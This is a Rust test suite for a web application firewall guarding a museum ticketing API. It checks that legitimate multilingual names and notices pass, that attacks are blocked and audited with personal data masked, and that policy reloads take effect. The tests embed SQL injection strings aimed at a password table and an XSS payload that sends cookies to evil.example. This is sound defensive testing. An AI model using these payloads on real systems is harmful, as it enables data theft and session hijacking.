//! The web application firewall in front of the routes, with the whole OWASP CRS (read from
//! `../shared`, or `GH_CRS_DIR`) and the shipped default policy: Gatehouse's own payloads — real
//! names, staff-written notices, visitors' refund reasons — pass; attacks get 403
//! `request_blocked` with the field and change nothing; every verdict is audited in JSON with
//! personal data masked and becomes a security event; detection only lets requests through; a
//! reloaded policy changes the mode, and a bad one leaves the running rules.

use super::*;
use axum::extract::ConnectInfo;
use gatehouse_edge::Edge;
use gatehouse_shield::Policy;
use std::path::{Path, PathBuf};

fn rule_files() -> gatehouse_waf::firewall::RuleFiles {
    let files = gatehouse_waf::firewall::RuleFiles::beside_checkout(
        &PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../.."),
    );
    assert!(
        files.crs.join("rules").is_dir(),
        "the OWASP CRS is not at {} (set GH_CRS_DIR)",
        files.crs.display()
    );
    files
}

/// The API behind the firewall with `policy`, auditing to a fresh file.
fn guarded(a: &Api, policy: &str, audit: &Path) -> (Router, Arc<Edge>) {
    let mut state = a.state.clone();
    let edge = Edge::with_store(
        Policy::from_toml(policy).unwrap(),
        a.traffic.clone(),
        a.clock.clone(),
    );
    let _ = std::fs::remove_file(audit);
    edge.attach_firewall(
        rule_files(),
        gatehouse_api::MAX_BODY_BYTES,
        Some(audit.to_owned()),
    )
    .unwrap();
    state.edge = edge.clone();
    (router(state), edge)
}

/// A request as a browser sends it through the server (Host, Content-Length, a peer).
async fn send(
    app: &Router,
    method: &str,
    uri: &str,
    token: Option<&str>,
    body: Option<Value>,
) -> (StatusCode, Value) {
    let body = body.map(|b| b.to_string()).unwrap_or_default();
    let mut req = Request::builder()
        .method(method)
        .uri(uri)
        .header("host", "tickets.museum.example")
        .header(
            "user-agent",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X)",
        )
        .header("accept", "application/json");
    if !body.is_empty() {
        req = req
            .header("content-type", "application/json")
            .header("content-length", body.len().to_string());
    }
    if let Some(t) = token {
        req = req.header("authorization", format!("Bearer {t}"));
    }
    let mut req = req.body(Body::from(body)).unwrap();
    req.extensions_mut().insert(ConnectInfo(
        "198.51.100.20:40000"
            .parse::<std::net::SocketAddr>()
            .unwrap(),
    ));
    let response = app.clone().oneshot(req).await.unwrap();
    let status = response.status();
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    (
        status,
        serde_json::from_slice(&bytes).unwrap_or(Value::Null),
    )
}

/// The audit records written so far (the writer thread is given a moment).
async fn audit_records(path: &Path, at_least: usize) -> Vec<Value> {
    for _ in 0..100 {
        let text = std::fs::read_to_string(path).unwrap_or_default();
        let records: Vec<Value> = text
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        if records.len() >= at_least {
            return records;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    panic!("fewer than {at_least} audit records in {}", path.display());
}

fn blocked(r: &(StatusCode, Value)) -> bool {
    r.0 == StatusCode::FORBIDDEN && r.1["code"] == "request_blocked"
}

const NAMES: [&str; 8] = [
    "阿依古丽·买买提",
    "欧阳娜娜",
    "O'Brien",
    "D'Angelo-Smith",
    "Mary-Jane O'Neil",
    "Zoë d'Arc",
    "José María Nuñez",
    "Ngũgĩ wa Thiong'o",
];

const NOTICE: &str = "1. 请携带本人有效身份证件原件入馆；\n2. 馆内禁止吸烟、饮食；禁止携带易燃易爆物品。\n3. Visitors under 14 must be accompanied by an adult (\"guardian\").\n4. Opening hours: 09:00-17:00; last entry 16:00.\n5. Refunds: up to 1 day before the visit -- no refunds for no-shows.\n6. Select your seat when booking; union members show their card at the desk.\n7. Cosmos dome: shows at 10:00 & 14:00, 'first come, first served' #space";

#[tokio::test]
async fn gatehouses_own_payloads_pass_and_attacks_are_stopped() {
    let a = api().await;
    let audit = std::env::temp_dir().join(format!("gh-waf-audit-{}.jsonl", std::process::id()));
    let (app, edge) = guarded(&a, gatehouse_shield::DEFAULT_POLICY, &audit);

    // Real names: each a frequent visitor, and one books.
    for (i, name) in NAMES.iter().enumerate() {
        let id = gatehouse_domain::identity::synthetic_resident_id(i as u32 + 7);
        let visitor = json!({"name": name, "id_type": "resident_id", "id_number": id, "phone": "+86 138-1234-5678"});
        let r = send(
            &app,
            "POST",
            "/api/v1/me/visitors",
            Some(&a.visitor),
            Some(visitor),
        )
        .await;
        assert_eq!(r.0, StatusCode::CREATED, "{name}: {}", r.1);
    }
    let mut order = a.booking(&gatehouse_domain::identity::synthetic_resident_id(3));
    order["tickets"][0]["visitor"]["name"] = json!("Mary-Jane O'Neil");
    order["tickets"][0]["seat"] = Value::Null;
    let r = send(
        &app,
        "POST",
        "/api/v1/orders",
        Some(&a.visitor),
        Some(order),
    )
    .await;
    assert_eq!(r.0, StatusCode::CREATED, "{}", r.1);
    let left = a.remaining().await;
    // Staff prose: a notice and a product introduction.
    let r = send(
        &app,
        "POST",
        &format!("/api/v1/admin/products/{}/notices", a.product),
        Some(&a.admin),
        Some(json!({ "text": NOTICE })),
    )
    .await;
    assert_eq!(r.0, StatusCode::CREATED, "{}", r.1);
    let r = send(
        &app,
        "POST",
        "/api/v1/admin/products",
        Some(&a.admin),
        Some(json!({"kind": "exhibition", "name": "Hall of 'Light' & Sound",
            "introduction": "The 'Cosmos' dome -- a 40-minute show; select seats when booking. Union of art & science: 1=1 fun for kids!"})),
    )
    .await;
    assert!(!blocked(&r), "{}", r.1);

    // Attacks: in a query, in a visitor's name (with the ID number), in a notice (script).
    let r = send(
        &app,
        "GET",
        "/api/v1/products?q=1%27%20or%20%271%27%3D%271",
        None,
        None,
    )
    .await;
    assert!(blocked(&r), "{r:?}");
    assert_eq!(r.1["field"], "q");
    assert!(r.1["message"].as_str().unwrap().contains("reference"));
    let mut order = a.booking("110101' OR 1=1 UNION SELECT password FROM accounts--");
    order["tickets"][0]["visitor"]["name"] = json!("张三' UNION SELECT password FROM accounts--");
    let r = send(
        &app,
        "POST",
        "/api/v1/orders",
        Some(&a.visitor),
        Some(order),
    )
    .await;
    assert!(blocked(&r), "{r:?}");
    assert!(
        r.1["field"]
            .as_str()
            .unwrap()
            .starts_with("tickets[0].visitor."),
        "{}",
        r.1
    );
    assert_eq!(a.remaining().await, left, "a blocked booking takes nothing");
    let r = send(
        &app,
        "POST",
        &format!("/api/v1/admin/products/{}/notices", a.product),
        Some(&a.admin),
        Some(json!({ "text": "Welcome!<script>document.location='https://evil.example/?c='+document.cookie</script>" })),
    )
    .await;
    assert!(blocked(&r), "XSS rules still guard notices: {r:?}");

    // The audit: one record per verdict, personal data masked.
    let records = audit_records(&audit, 3).await;
    let blocked_records: Vec<&Value> = records
        .iter()
        .filter(|r| r["action"] == "blocked")
        .collect();
    assert_eq!(blocked_records.len(), 3, "{records:#?}");
    let booking = blocked_records
        .iter()
        .find(|r| r["path"] == "/api/v1/orders")
        .unwrap();
    assert!(booking["inbound_score"].as_u64().unwrap() >= 5);
    let text = booking.to_string();
    assert!(!text.contains("110101'"), "the ID number is masked: {text}");
    assert!(!text.contains("张三'"), "the name is masked: {text}");
    assert!(text.contains("[masked") || text.contains("张*"), "{text}");
    let rules: Vec<u64> = booking["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_u64().unwrap())
        .collect();
    assert!(rules.contains(&949110), "{rules:?}");
    assert!(
        records.iter().all(|r| r["path"] != "/api/v1/products?q"),
        "no query kept"
    );

    // And the security events.
    edge.flush_refusals(a.traffic.as_ref()).await;
    let (_, events) = send(
        &app,
        "GET",
        "/api/v1/admin/security-events",
        Some(&a.admin),
        None,
    )
    .await;
    let waf = events_of(&events, "waf_blocked");
    assert!(!waf.is_empty(), "{waf:?}");
    assert!(waf.iter().all(|e| e["ip"] == "198.51.100.20"), "{waf:?}");
    assert!(
        waf.iter()
            .any(|e| e["detail"].as_str().unwrap().contains("942100")),
        "{waf:?}"
    );
    let _ = std::fs::remove_file(&audit);
}

#[tokio::test]
async fn detection_only_records_and_a_reloaded_policy_switches_to_blocking() {
    let a = api().await;
    let dir = std::env::temp_dir().join(format!("gh-waf-reload-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let audit = dir.join("audit.jsonl");
    let detect = "version = 1\n[firewall]\nmode = \"detection_only\"\n";
    let (app, edge) = guarded(&a, detect, &audit);
    let attack = "/api/v1/products?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    let r = send(&app, "GET", attack, None, None).await;
    assert_eq!(r.0, StatusCode::OK, "detection only lets it through");
    let records = audit_records(&audit, 1).await;
    assert_eq!(records[0]["action"], "detected");
    assert_eq!(records[0]["mode"], "detection_only");
    assert_eq!(records[0]["status"], 403);

    let file = dir.join("policy.toml");
    std::fs::write(&file, "version = 2\n[firewall]\nmode = \"blocking\"\n").unwrap();
    edge.reload_from(&file).unwrap();
    assert!(blocked(&send(&app, "GET", attack, None, None).await));
    // A bad section is refused, naming the field; the running rules stay.
    std::fs::write(&file, "version = 3\n[firewall]\nparanoia_level = 9\n").unwrap();
    let e = edge.reload_from(&file).unwrap_err();
    assert!(e.contains("firewall.paranoia_level"), "{e}");
    assert!(blocked(&send(&app, "GET", attack, None, None).await));
    // Off: no rules run.
    std::fs::write(&file, "version = 4\n[firewall]\nmode = \"off\"\n").unwrap();
    edge.reload_from(&file).unwrap();
    assert_eq!(
        send(&app, "GET", attack, None, None).await.0,
        StatusCode::OK
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test]
async fn a_body_over_the_limit_is_refused_before_any_route() {
    let a = api().await;
    let audit = std::env::temp_dir().join(format!("gh-waf-limit-{}.jsonl", std::process::id()));
    let (app, _) = guarded(&a, gatehouse_shield::DEFAULT_POLICY, &audit);
    let big = json!({ "text": "x".repeat(gatehouse_api::MAX_BODY_BYTES) });
    let r = send(
        &app,
        "POST",
        &format!("/api/v1/admin/products/{}/notices", a.product),
        Some(&a.admin),
        Some(big),
    )
    .await;
    assert_eq!(r.0, StatusCode::PAYLOAD_TOO_LARGE, "{}", r.1);
    assert_eq!(r.1["code"], "body_too_large");
    assert_eq!(r.1["field"], "body");
    let _ = std::fs::remove_file(&audit);
}
